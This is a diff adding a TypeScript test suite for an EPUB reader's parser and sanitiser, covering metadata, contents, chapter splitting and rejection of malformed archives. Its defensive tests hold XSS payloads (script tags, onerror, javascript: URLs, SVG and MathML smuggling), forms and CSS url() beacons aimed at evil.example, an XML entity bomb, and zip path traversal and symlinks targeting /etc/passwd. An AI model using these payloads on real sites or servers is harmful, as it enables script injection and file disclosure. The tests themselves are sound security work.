@@ -1,0 +1,227 @@
+/** Books from strangers: read where they can be, refused with a sentence where they can't, and inert in either case. */
+import { describe, expect, it } from "vitest";
+import { anEpub, aZip } from "../../../tests/factories/epubs";
+import { openArchive } from "./archive.server";
+import { scopeSheet } from "./book-css.server";
+import { openEpub } from "./epub.server";
+import { UnreadableBook } from "./publication";
+import { partWith, showChapter } from "./show-chapter.server";
+
+const BASE = "/reader/read/B";
+let books = 0;
+
+async function opened(content: Buffer) {
+  const archive = await openArchive({
+    bytes: content.length,
+    async *read(first, last) {
+      yield content.subarray(first, last + 1);
+    },
+  });
+  return openEpub(archive);
+}
+
+async function shown(content: Buffer, chapter = 0) {
+  const publication = await opened(content);
+  return showChapter({ sha256: `book ${++books}`, publication, base: BASE }, chapter);
+}
+
+const htmlOf = async (body: string, traits: Parameters<typeof anEpub>[0] = {}) =>
+  (await shown(await anEpub({ chapters: [body], ...traits }))).parts.join("");
+
+describe("a book", () => {
+  it("has its title, authors, language, chapters and contents", async () => {
+    const book = await opened(await anEpub());
+    expect(book).toMatchObject({ title: "A Wayfarer's Book", authors: ["Ada Writer"], language: "en-AU", cover: null });
+    expect(book.chapters.map(({ path, title }) => [path, title])).toEqual([
+      ["OPS/one.xhtml", "One"],
+      ["OPS/two.xhtml", "Two"],
+      ["OPS/three.xhtml", "Notes"],
+    ]);
+    expect(book.contents[2]).toEqual({ title: "Notes", chapter: 2, fragment: "", depth: 0 });
+  });
+
+  it("of EPUB 2 has its contents and printed pages by the NCX", async () => {
+    const ncx = `<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap><navPoint><navLabel><text>First</text></navLabel><content src="one.xhtml"/><navPoint><navLabel><text>Inside</text></navLabel><content src="one.xhtml#ref1"/></navPoint></navPoint></navMap><pageList><pageTarget><navLabel><text>7</text></navLabel><content src="two.xhtml#p7"/></pageTarget></pageList></ncx>`;
+    const opf = `<package xmlns="http://www.idpf.org/2007/opf" version="2.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Old</dc:title><meta name="cover" content="pic"/></metadata><manifest><item id="pic" href="pic.png" media-type="image/png"/><item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/><item id="a" href="one.xhtml" media-type="application/xhtml+xml"/><item id="b" href="two.xhtml" media-type="application/xhtml+xml"/></manifest><spine toc="ncx"><itemref idref="a"/><itemref idref="b"/></spine></package>`;
+    const book = await opened(await anEpub({ files: { "OPS/toc.ncx": ncx, "OPS/book.opf": opf } }));
+    expect(book.contents).toEqual([
+      { title: "First", chapter: 0, fragment: "", depth: 0 },
+      { title: "Inside", chapter: 0, fragment: "ref1", depth: 1 },
+    ]);
+    expect(book.pages).toEqual([{ title: "7", chapter: 1, fragment: "p7", depth: 0 }]);
+    expect(book.cover).toBe("OPS/pic.png");
+  });
+
+  it("keeps footnotes, language, direction, drawings and formulas", async () => {
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><linearGradient id="g"/><path d="M0 0h9" fill="url(#g)"/></svg>`;
+    const math = `<math xmlns="http://www.w3.org/1998/Math/MathML"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>`;
+    const html = await htmlOf(
+      `<p dir="rtl" xml:lang="he">שלום<a href="#x" id="back">1</a></p>${svg}${math}<p id="x">n</p>`,
+    );
+    expect(html).toContain('<p dir="rtl" lang="he" id="p1">');
+    expect(html).toContain(`href="${BASE}?c=1&amp;to=x#b-x"`);
+    expect(html).toContain('viewBox="0 0 9 9"');
+    expect(html).toContain('fill="url(#b-g)"');
+    expect(html).toContain("<mfrac><mi>a</mi><mn>2</mn></mfrac>");
+    const { parts } = await shown(await anEpub());
+    expect(parts[0]).toContain(`href="${BASE}?c=3&amp;to=note1#b-note1"`);
+  });
+
+  it("that is long is cut into parts under 100 kB, whose ids and numbers stay", async () => {
+    const items = Array.from({ length: 900 }, (_, at) => `<li id="i${at}">Item ${at}, ${"words ".repeat(25)}</li>`);
+    const book = await anEpub({ chapters: [`<div><section><ol>${items.join("")}</ol></section></div>`] });
+    const chapter = await shown(book);
+    expect(chapter.parts.length).toBeGreaterThan(3);
+    for (const part of chapter.parts) expect(part.length).toBeLessThan(65_000);
+    expect(chapter.paragraphs).toHaveLength(900);
+    const part = partWith(chapter, "i700");
+    expect(chapter.parts[part]).toContain('id="b-i700"');
+    const first = Number(/Item (\d+)/.exec(chapter.parts[part] ?? "")?.[1]);
+    expect(chapter.parts[part]).toContain(`<ol start="${first + 1}">`);
+  });
+});
+
+describe("a hostile chapter", () => {
+  it.each([
+    ["scripts", "<script>alert(1)</script><p onclick='alert(1)'>x</p><a href='javascript:alert(1)'>y</a>"],
+    [
+      "scripts in a drawing",
+      "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><a href='javascript:alert(1)'><text>y</text></a></svg>",
+    ],
+    [
+      "HTML in a drawing",
+      "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
+    ],
+    [
+      "HTML in a formula",
+      "<math><annotation-xml encoding='text/html'><img src='x' onerror='alert(1)'/></annotation-xml></math>",
+    ],
+    [
+      "frames and objects",
+      "<iframe src='https://evil.example'>a</iframe><object data='https://evil.example'>alert</object><embed src='https://evil.example'/>",
+    ],
+    ["forms", "<form action='https://evil.example'><input name='password'/><button>alert(1)</button></form>"],
+    [
+      "a base",
+      "<base href='https://evil.example'/><link rel='stylesheet' href='https://evil.example/x.css'/><meta http-equiv='refresh' content='0;url=https://evil.example'/>",
+    ],
+    [
+      "remote pictures",
+      "<img src='https://evil.example/x.png' alt=''/><svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='https://evil.example/x.png'/><rect fill='url(https://evil.example/x)'/></svg>",
+    ],
+    ["styles that load", "<p style='background:url(https://evil.example/x.png);position:fixed'>x</p>"],
+    ["comments and CDATA", "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]><p>x</p>"],
+    [
+      "raw text that HTML reads otherwise",
+      "<noscript><p title='&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p></noscript><textarea><img src='x' onerror='alert(1)'/></textarea>",
+    ],
+  ])("with %s is inert", async (_what, body) => {
+    const { parts, css } = await shown(await anEpub({ chapters: [`<p>Before.</p>${body}<p>After.</p>`] }));
+    const html = parts.join("");
+    expect(html).toContain("Before.");
+    expect(html).toContain("After.");
+    const tags = html.match(/<[^>]*>/g)?.join("") ?? "";
+    expect(tags).not.toMatch(
+      /script|iframe|object|embed|foreignObject|annotation|form|input|button|base|meta|link|noscript|textarea/i,
+    );
+    expect(tags).not.toMatch(/\son\w+=|javascript:|evil\.example|style=/i);
+    expect(css).not.toMatch(/evil|position/);
+  });
+
+  it("whose names are ours is none of ours", async () => {
+    const html = await htmlOf(`<div id="main" class="button primary"><p id="p1">x</p></div>`);
+    expect(html).toContain('id="b-main"');
+    expect(html).toContain('class="b-button b-primary"');
+    expect(html.match(/id="p1"/g)).toHaveLength(1);
+  });
+});
+
+describe("a book's sheet", () => {
+  const place = { from: "OPS/css/a.css", href: (path: string) => `/files/${path}` };
+
+  it("holds within the book, in sizes that follow the reader's", () => {
+    expect(
+      scopeSheet("html body{margin:0}p.x>a:hover{font-size:12px;color:red !important}#y{width:50%!important}", place),
+    ).toBe(".book{margin:0}.book p.b-x>a:hover{font-size:0.75em}.book #b-y{width:50%}");
+  });
+
+  it.each([
+    "@import url(https://evil.example/x.css);",
+    "p{background:url(https://evil.example/x)}",
+    "p{border-image:url(//evil.example/x) 3}",
+    "@font-face{font-family:A;src:url(https://evil.example/f.woff)}",
+    "p{list-style-image:image-set('https://evil.example/x' 1x)}",
+    "p{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)}",
+    "p{position:fixed;top:0}",
+    "</style><script>alert(1)</script>",
+    "@charset 'x';@page{margin:0}@keyframes a{from{top:0}}",
+  ])("loses %s", (text) => {
+    expect(scopeSheet(text, place)).not.toMatch(
+      /evil|expression|behavior|binding|fixed|script|@import|@page|@keyframes/,
+    );
+  });
+
+  it("loads pictures and fonts of the book", () => {
+    expect(scopeSheet("@font-face{font-family:A;src:url(../f/a.otf)}", place)).toContain("url(/files/OPS/f/a.otf)");
+  });
+});
+
+describe("a file that is no book", () => {
+  const bomb = Buffer.alloc(30 * 1024 * 1024);
+  it.each<[string, () => Promise<Buffer>]>([
+    ["noise", async () => Buffer.from("PK\x03\x04 and nothing more")],
+    ["cut off", async () => (await anEpub()).subarray(0, 900)],
+    ["without a package", async () => aZip({ mimetype: "application/epub+zip", "META-INF/container.xml": "<x/>" })],
+    ["with a broken package", () => anEpub({ files: { "OPS/book.opf": "<package><spine><itemref" } })],
+    [
+      "with an entity bomb for a package",
+      () =>
+        anEpub({
+          files: {
+            "OPS/book.opf": `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><package>&b;</package>`,
+          },
+        }),
+    ],
+    ["a bomb", () => anEpub({ files: { "OPS/one.xhtml": bomb } })],
+    [
+      "copy-protected",
+      () =>
+        anEpub({
+          files: {
+            "META-INF/encryption.xml": `<encryption><EncryptedData><CipherData><CipherReference URI="OPS/one.xhtml"/></CipherData></EncryptedData></encryption>`,
+          },
+        }),
+    ],
+    [
+      "with paths that lead out of it",
+      () =>
+        aZip({ mimetype: "application/epub+zip", "META-INF/container.xml": "<x/>", aaaaaaaaaaaa: "x" }).then((zip) =>
+          Buffer.from(zip.toString("latin1").replaceAll("aaaaaaaaaaaa", "../../../../x"), "latin1"),
+        ),
+    ],
+  ])("%s is refused with a sentence", async (_what, make) => {
+    await expect(make().then(opened)).rejects.toThrow(UnreadableBook);
+  });
+
+  it("with links for files has none of them", async () => {
+    const zip = await aZip(
+      { mimetype: "application/epub+zip", "OPS/pic.png": "/etc/passwd" },
+      { "OPS/pic.png": 0o120777 },
+    );
+    const archive = await openArchive({
+      bytes: zip.length,
+      async *read(first, last) {
+        yield zip.subarray(first, last + 1);
+      },
+    });
+    expect([...archive.files.keys()]).toEqual(["mimetype"]);
+  });
+
+  it("gives away no file outside the book, and only what pages show", async () => {
+    const book = await opened(await anEpub({ files: { "OPS/a.js": "alert(1)", "OPS/a.png": "x" } }));
+    for (const path of ["../../etc/passwd", "/etc/passwd", "OPS/a.js", "OPS/one.xhtml", "META-INF/container.xml"]) {
+      expect(await book.readResource(path)).toBeNull();
+    }
+    expect((await book.readResource("OPS/a.png"))?.mediaType).toBe("image/png");
+  });
+});
